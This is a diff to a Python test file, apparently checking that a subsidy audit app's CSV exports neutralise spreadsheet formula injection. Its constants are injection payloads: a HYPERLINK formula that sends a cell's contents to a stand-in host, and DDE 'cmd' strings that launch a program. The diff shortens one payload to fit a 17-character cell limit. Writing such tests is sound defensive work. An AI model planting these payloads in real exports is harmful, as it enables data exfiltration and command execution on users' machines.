@@ -24,7 +24,7 @@ from tests.web.test_subsidy_audit import submitted  # noqa: F401 - fixture
 LEGAL_NAME = '=HYPERLINK("http://x/?"&C2,"x")'
 DISPLAY_NAME = "+cmd|' /C calc'!A0"
 COURSE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
-FILE_CELL = "-2+3+cmd|' /C calc'!A0"
+FILE_CELL = "-1+2+cmd|'/C'!A0"  # 16 characters: a bulk check keeps certificate-number cells up to 17
 
 
 def csv_cells(data: bytes) -> list[str]:
